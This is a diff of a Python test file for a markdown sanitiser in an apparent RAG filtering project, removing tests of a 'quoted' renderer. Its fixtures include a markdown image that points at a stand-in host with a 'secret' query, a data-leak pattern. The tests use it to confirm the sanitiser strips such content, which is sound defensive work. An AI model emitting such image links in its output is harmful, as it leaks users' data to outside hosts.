@@ -6,11 +6,11 @@ import pytest
 from hostile import HOSTILE
 from hypothesis import given
 from hypothesis import strategies as st
-from streamlit_markdown import PLAIN, READER, acts, fetches, runs
+from streamlit_markdown import READER, acts, fetches, runs
 from waiting import ends_soon
 
 from ragfilter.answer.reply import MAX_BYTES
-from ragfilter.ui.look.prose import literal, message, on_button, quoted, written
+from ragfilter.ui.look.prose import literal, message, on_button, written
 
 FETCHES = (
     "![px](http://x/leak.png?q=secret)",
@@ -30,24 +30,16 @@ def kinds(markdown: str) -> set[str]:
     return {t.type for t in tokens} | {c.type for t in tokens for c in t.children or ()}
 
 
-def words(markdown: str) -> str:
-    """The text without its formatting."""
-    tokens = READER.parse(markdown)
-    return "".join(c.content or "\n" for t in tokens for c in t.children or () if not c.tag[1:2])
-
-
 @pytest.mark.parametrize("text", FETCHES)
 def test_no_picture_and_no_link_is_left(text: str) -> None:
     assert kinds(text) & {"image", "link_open"}
     assert not kinds(written(text)) & {"image", "link_open"}
-    assert not kinds(quoted(text)) & {"image", "link_open"}
 
 
 @given(st.text(alphabet="![]()<>:\\\"' \nax1`*_~", max_size=40), st.sampled_from(FETCHES))
 def test_no_text_around_it_brings_it_back(text: str, fetch: str) -> None:
     for whole in (text + fetch, fetch + text, text + fetch + text):
         assert "image" not in kinds(written(whole))
-        assert not kinds(quoted(whole)) & {"image", "link_open"}
 
 
 @pytest.mark.parametrize(
@@ -62,27 +54,9 @@ def test_a_model_may_format(text: str, shown: str) -> None:
     assert written(text) == shown
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        "# Not a heading",
-        "1. not a list",
-        "- nor this",
-        "a | b\n--|--\n1 | 2",
-        "*not* _so_ `much` ~~form~~ $x$ :red[y] :smile: &amp; <b>",
-        "Level 7-9: 10; AC −3.",
-    ],
-)
-def test_a_quotation_stays_to_the_letter(text: str) -> None:
-    assert kinds(quoted(text)) <= PLAIN
-    shown = words(quoted(text)).replace("\u2060", "")
-    assert "".join(shown.split()) == "".join(text.split())
-
-
 @pytest.mark.parametrize("text", HOSTILE)
 def test_text_from_outside_stays_to_the_letter_and_does_nothing(text: str) -> None:
-    for made in (literal(text), quoted(text)):
-        assert acts(made) == set()
+    assert acts(literal(text)) == set()
     assert fetches(written(text)) == set()
     assert "\n" not in literal(text)
     shown = " ".join(runs(literal(text))).replace("\u2060", "")
@@ -137,7 +111,6 @@ def test_a_long_run_of_signs_takes_time_in_proportion(sign: str) -> None:
     text = sign * (MAX_BYTES // len(sign))
     with ends_soon():
         written(text)
-        quoted(text)
         literal(text)
 
 
